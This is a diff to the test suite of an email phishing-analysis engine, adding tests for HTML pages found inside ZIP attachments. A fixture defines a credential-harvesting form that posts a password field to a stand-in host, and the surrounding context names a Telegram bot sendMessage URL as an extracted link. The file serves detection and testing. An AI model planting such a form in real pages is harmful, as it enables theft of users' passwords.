@@ -4,6 +4,7 @@ import { readAttachedPage } from '../../src/core/email/signals/attached-page.js'
 import { summariseParsed } from '../../src/adapters/workers/protocol.js';
 import { fixture } from '../helpers/engine.js';
 import { noteWithFiles } from '../helpers/mime.js';
+import { makeZip } from '../../scripts/make-office-fixtures.js';
 
 /** The mailbox's own receiving server writes Authentication-Results as mx.example.org. */
 const engine = createEngine({ trustedAuthServIds: ['mx.example.org'] });
@@ -224,5 +225,47 @@ describe('an attached page in the analysis', () => {
     expect(summariseParsed(parsed).links).toContain(
       'https://api.telegram.org/bot7781234567:AAHk3vQx9Zs/sendMessage',
     );
+  });
+});
+
+describe('a page inside a ZIP attached', () => {
+  const stealer = '<form action="https://login-check.example/p.php"><input type="password"></form>';
+  const withZip = (zip: Buffer) =>
+    noteWithFiles([{ name: 'Remittance.zip', type: 'application/zip', content: zip }], {
+      from: 'Accounts <ap@supplier-pay.example>',
+      to: 'alex@example.org',
+      subject: 'Remittance advice',
+      note: 'Please find the remittance advice attached.',
+    });
+  const indicators = async (zip: Buffer) => (await engine.analyzeRaw(withZip(zip))).analysis.indicators;
+
+  it('is named, and read as an attached page is', async () => {
+    const found = await indicators(makeZip([{ name: 'docs/Remittance.html', data: stealer }]));
+    expect(found.find((i) => i.id === 'attachments.archive_page')?.evidence).toEqual([
+      'Remittance.zip: docs/Remittance.html',
+    ]);
+    const form = found.find((i) => i.id === 'attachments.page_form');
+    expect([form?.severity, form?.evidence]).toEqual([
+      'critical',
+      ['Remittance.zip/docs/Remittance.html: https://login-check.example/p.php'],
+    ]);
+    expect(found.map((i) => i.id)).not.toContain('attachments.archive');
+  });
+
+  it('reads the first four pages, not an encrypted one, and a ZIP of no page is only an archive', async () => {
+    const page = (n: number, data = '<p>Remittance</p>') => ({ name: `p${n}.htm`, data });
+    const fourth = await indicators(makeZip([page(1), page(2), page(3), page(4, stealer)]));
+    expect(fourth.map((i) => i.id)).toContain('attachments.page_form');
+    const fifth = await indicators(makeZip([page(1), page(2), page(3), page(4), page(5, stealer)]));
+    expect(fifth.map((i) => i.id)).toEqual(expect.arrayContaining(['attachments.archive_page']));
+    expect(fifth.map((i) => i.id)).not.toContain('attachments.page_form');
+    const locked = await indicators(makeZip([{ ...page(1, stealer), encrypted: true }]));
+    expect(locked.map((i) => i.id)).toEqual(
+      expect.arrayContaining(['attachments.archive_page', 'attachments.encrypted_archive']),
+    );
+    expect(locked.map((i) => i.id)).not.toContain('attachments.page_form');
+    const plain = await indicators(makeZip([{ name: 'figures.csv', data: 'a,b\n1,2' }]));
+    expect(plain.map((i) => i.id)).toContain('attachments.archive');
+    expect(plain.map((i) => i.id)).not.toContain('attachments.archive_page');
   });
 });
